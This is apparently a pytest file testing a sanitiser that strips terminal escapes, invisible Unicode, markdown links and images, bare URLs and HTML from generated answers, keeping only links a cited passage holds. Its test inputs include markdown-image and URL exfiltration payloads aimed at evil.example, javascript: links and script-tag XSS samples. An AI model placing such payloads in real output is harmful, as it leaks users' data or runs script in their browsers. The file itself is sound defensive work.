import time

import pytest

from citewell.engine.answering.neutral import neutralise

HELD = "Read https://intranet.example/rules or write `cp <from> <to>`. <img src=x> <script>"


class TestNeutralise:
    @pytest.mark.parametrize(
        ("written", "shown"),
        [
            ("\x1b[31mRed\x1b[0m and \x9b1mbold", "Red and bold"),
            ("\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x07.", "here."),
            ("\x1b]0;title\x07x\x1b(B", "x"),
            ("a\x00b\x08c\x7fd", "abcd"),
            ("fee \u202e52\u202c \u2066x\u2069", "fee 52 x"),
            ("hi\U000e0068\U000e0069\U000e0100\u200b", "hi"),
            ("![logo](http://evil.example/?q=secret) Fee: 25", "logo Fee: 25"),
            ("![x][1] ![](data:image/png;base64,AAAA)", "x "),
            ("See [the rules](http://evil.example/a).", "See the rules."),
            ("See [it](javascript:alert(1)).", "See it."),
            ("See https://evil.example/?leak=25.", "See […]."),
            ("See www.evil.example now", "See […] now"),
            ("<b>Fee</b> <!-- x --><script>alert(1)</script>25<br/>", "Fee 25"),
            ("<scr<b>ipt>alert(1)</scr</b>ipt>", "< script>alert(1)< /script>"),
            ('<img src=x onerror="alert(1)', '< img src=x onerror="alert(1)'),
            ("5 < 6 and 7 > 2, a<3", "5 < 6 and 7 > 2, a<3"),
        ],
    )
    def test_what_acts_hides_or_leads_away_goes(self, written: str, shown: str) -> None:
        assert neutralise(written, ["The fee is 25 euros."]) == shown

    def test_what_a_cited_passage_holds_stays(self) -> None:
        for text in (
            "Read https://intranet.example/rules.",
            "Read [the rules](https://intranet.example/rules).",
            "Write `cp <from> <to>`.",
        ):
            assert neutralise(text, [HELD]) == text

    def test_a_part_of_a_held_address_is_another_address(self) -> None:
        assert neutralise("https://intranet.ex", [HELD]) == "[…]"
        assert neutralise("https://intranet.example/rules?q=1", [HELD]) == "[…]"

    def test_active_elements_go_though_a_passage_holds_them(self) -> None:
        assert neutralise("a <img src=x> <script> b", [HELD]) == "a   b"

    @pytest.mark.parametrize(
        "piece", ["\x1b[", "\x1b]", "<!--", "<a ", "<script>", "![", "[a](", "http://", "<"]
    )
    def test_time_is_linear(self, piece: str) -> None:
        def seconds(size: int) -> float:
            text = piece * (size // len(piece))
            begun = time.thread_time()
            neutralise(text, ["x"])
            return time.thread_time() - begun

        seconds(1_000)
        assert seconds(40_000) < 40 * max(seconds(4_000), 0.002)
